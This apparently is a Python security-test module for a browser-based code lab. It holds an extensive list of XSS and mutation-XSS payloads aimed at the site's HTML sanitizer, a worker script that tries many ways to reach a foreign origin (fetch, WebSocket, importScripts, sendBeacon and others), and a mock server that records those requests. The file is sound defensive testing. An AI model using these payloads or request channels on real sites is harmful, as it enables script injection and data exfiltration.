"""Attacks by strangers: markup, programs in an address, another origin that records requests."""

import base64
import zlib
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import quote

SOURCE = (Path(__file__).parents[2] / "reference" / "alphabeta.py").read_text(encoding="utf-8")
PWN = "(window.pwned=(window.pwned||[]).concat(1))"

# Texts that an attacker may have the page turn into elements; {pwn} is code that must not run.
PAYLOADS = [
    # Handlers, behind quotes that a regular expression would take for the end of the tag
    '<b title=">" onmouseover="{pwn}">x</b>',
    "<b title='>' onclick={pwn}>x</b>",
    '<b class="node" oncontentvisibilityautostatechange="{pwn}" style="content-visibility:auto">x</b>',
    '<input autofocus onfocus="{pwn}">',
    '<details open ontoggle="{pwn}"><summary>x</summary></details>',
    '<span contenteditable autofocus onbeforeinput="{pwn}" onfocus="{pwn}">x</span>',
    '<button popovertarget=p>x</button><div id=p popover onbeforetoggle="{pwn}">x</div>',
    "<b onscrollsnapchange={pwn} ONCLICK={pwn}>x</b>",
    # Elements that fetch or run
    "<script>{pwn}</script>",
    "<svg><script>{pwn}</script></svg>",
    '<img src=x onerror="{pwn}">',
    '<video><source onerror="{pwn}"></video><audio src=x onerror="{pwn}"></audio>',
    '<iframe srcdoc="<script>parent.pwned=[1]</script>"></iframe>',
    '<object data="javascript:{pwn}"></object><embed src="javascript:{pwn}">',
    '<a href="javascript:{pwn}">x</a>',
    '<form action="javascript:{pwn}"><button formaction="javascript:{pwn}">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://foreign.example/">',
    '<base href="https://foreign.example/"><link rel=stylesheet href="https://foreign.example/a.css">',
    "<style>@import 'https://foreign.example/b.css'; * {{ background: url(https://foreign.example/c) }}</style>",
    # Drawings
    '<use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{pwn}</script></svg>#x"/>',
    '<animate onbegin="{pwn}" attributeName="x" dur="1s"/>',
    '<a xlink:href="javascript:{pwn}"><text x="1" y="1">x</text></a>',
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{pwn}">x</body></foreignObject>',
    '<feImage href="https://foreign.example/e.png"/>',
    '<rect x="1" y="1" width="9" height="9" fill="url(https://foreign.example/f#g)" filter="url(//foreign.example/)"/>',
    '<svg onload="{pwn}"><circle r="1" onclick="{pwn}"/></svg>',
    '<text x="1" y="1"><title>x</title><tspan onclick="{pwn}">x</tspan></text>',
    # Places, names and classes of the page
    '<b id="laboratory-tree" class="md-dialog md-search__overlay">x</b>',
    '<b id=checks></b><b id=checks name=text></b><form id=python><input name=ask></form>',
    '<form><input name=childNodes><input name=attributes><input name=localName><b onclick="{pwn}">x</b></form>',
    '<input name="__proto__"><input name="constructor">',
    '<button type="button" data-do="run" data-go="last">x</button>',
    '<div class="exercise" data-exercise="javascript:{pwn}//">x</div>',
    '<div role="dialog" aria-modal="true">x</div>',
    # Parsers
    '<math><mtext><table><mglyph><style><img src=x onerror="{pwn}"></style></mglyph></table></mtext></math>',
    '<svg></p><style><a title="</style><img src=x onerror={pwn}>">',
    '<noscript><p title="</noscript><img src=x onerror={pwn}>"></noscript>',
    '<template><b onclick="{pwn}">x</b></template>',
    '<template shadowrootmode="open"><script>{pwn}</script></template>',
    '<textarea></textarea><xmp><b title="</xmp><img src=x onerror={pwn}>"></xmp>',
    "<!--><img src=x onerror={pwn}>--><![CDATA[<img src=x onerror={pwn}>]]>",
    '</svg></p></table></div><img src=x onerror="{pwn}"><b onclick="{pwn}">x</b>',
    "<b>" * 3000 + '<b onclick="{pwn}">x',
    '<x-a is="x" onclick="{pwn}"><slot name="x" onslotchange="{pwn}"></slot></x-a>',
    '<b class="node\x00" on\x00click="{pwn}" translate="yes">x</b>',
]  # fmt: skip
PAYLOADS = [payload.format(pwn=PWN) for payload in PAYLOADS]

# Imports a module of the site by name.
IMPORT_MODULE = (
    """name => import(new URL(name, document.querySelector("script[src$='assets/site.js']").src))"""
)
# Makes elements of payloads at each kind of place, dispatches events to them, and returns the HTML.
MAKE_ELEMENTS = (
    """async payloads => {
  const elements = await ("""
    + IMPORT_MODULE
    + """)("browser/elements.js")
  const places = {drawing: "svg", phrase: "p", form: "table", page: "div"}
  const made = {}
  for (const [kind, name] of Object.entries(places)) made[kind] = payloads.map(payload => {
    const space = name === "svg" ? "http://www.w3.org/2000/svg" : "http://www.w3.org/1999/xhtml"
    const place = document.createElementNS(space, name)
    document.querySelector("article").append(place)
    elements.setSafeHtml(place, payload, kind)
    const html = place.innerHTML
    for (const one of place.querySelectorAll("*"))
      for (const type of ["click", "mouseover", "focus", "pointerrawupdate", "toggle", "load"])
        one.dispatchEvent(new Event(type))
    return html
  })
  return made
}"""
)


def fragment(code, **params):
    """Return the hash of an address with code."""
    packer = zlib.compressobj(wbits=-15)
    packed = packer.compress(code.encode()) + packer.flush()
    text = base64.urlsafe_b64encode(packed).decode().rstrip("=")
    parts = [f"code={text}", *(f"{name}={quote(value)}" for name, value in params.items())]
    return "#" + "&".join(parts)


def hostile(*lines):
    """Return a program that runs lines of code before a correct search."""
    return "\n".join([*lines, SOURCE])


# Tries every way to send a request from a worker, and prints how many it has tried.
NETWORK_REQUESTS = """
from browser import self as w
w.eval('''
self.tries = 0
const at = "%(foreign)s/", ws = at.replace("http", "ws"), home = "%(home)sassets/"
const blob = (text) => URL.createObjectURL(new Blob([text], {type: "text/javascript"}))
const spoken = `fetch("${at}nested").catch(() => {}); importScripts("${at}nested-import")`
const ways = [
  () => fetch(at + "fetch"), () => fetch(at + "no-cors", {mode: "no-cors"}), () => fetch(at + "post", {method: "POST", body: "x", keepalive: true}),
  () => { const its = new XMLHttpRequest(); its.open("GET", at + "xhr"); its.send() },
  () => { const its = new XMLHttpRequest(); its.open("GET", at + "xhr-sync", false); its.send() },
  () => new WebSocket(ws + "socket"), () => new EventSource(at + "events"), () => new WebTransport(at + "transport"),
  () => importScripts(at + "import-scripts"), () => import(at + "import"), () => import("data:text/javascript,fetch('" + at + "data')"),
  () => new Worker(at + "worker"), () => new Worker(blob(spoken)), () => new Worker(blob(`import "${at}module"`), {type: "module"}),
  () => new Worker("data:text/javascript," + encodeURIComponent(spoken)), () => new SharedWorker(at + "shared"),
  () => new Worker(home + "javascripts/workers/also.js?" + at + "also"), () => new Worker(home + "javascripts/workers/also.js?//" + at.slice(7) + "also"),
  () => { const its = new Worker(home + "browser/worker.js"); const c = new MessageChannel(); its.postMessage([c.port2, {}], [c.port2]); c.port1.postMessage([1, "run", JSON.stringify("from browser import self as w; w.fetch('" + at + "own-worker')"), "en"]) },
  () => { const its = new Worker(home + "browser/worker.js"); its.postMessage([1, "run", JSON.stringify("from browser import self as w; w.fetch('" + at + "own-worker')"), "en"]) },
  () => new FontFace("x", `url(${at}font)`).load(), () => navigator.serviceWorker.register(at + "service"),
  () => fetch(home + "../404.html", {redirect: "follow", referrer: at}), () => Response.redirect(at + "redirect"),
  () => caches.open("x").then(its => its.add(at + "cache")), () => navigator.sendBeacon(at + "beacon"),
]
for (const way of ways) { self.tries += 1; try { way()?.catch?.(() => {}) } catch {} }
''')
print(w.tries)
"""
STYLE_REQUESTS = """
import docs.figures.film, docs.figures.tree_drawing
docs.figures.film.explain_step = lambda *a, **k: '<b style="background:url(%(foreign)s/style)">x</b><img src="%(foreign)s/img"><style>@import "%(foreign)s/css"</style>'
docs.figures.tree_drawing.TreeDrawing.draw_edge = lambda *a: '<path d="M0 0" fill="url(%(foreign)s/fill)"/><image href="%(foreign)s/image"/>'
"""


class ForeignHandler(BaseHTTPRequestHandler):
    """Another host, which records the paths requested from it and allows everything."""

    def __init__(self, *arguments, requested_paths):
        self.requested_paths = requested_paths
        super().__init__(*arguments)

    def do_GET(self):
        self.requested_paths.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"self.foreign = 1")

    do_POST = do_OPTIONS = do_HEAD = do_GET

    def log_message(self, *_):
        pass
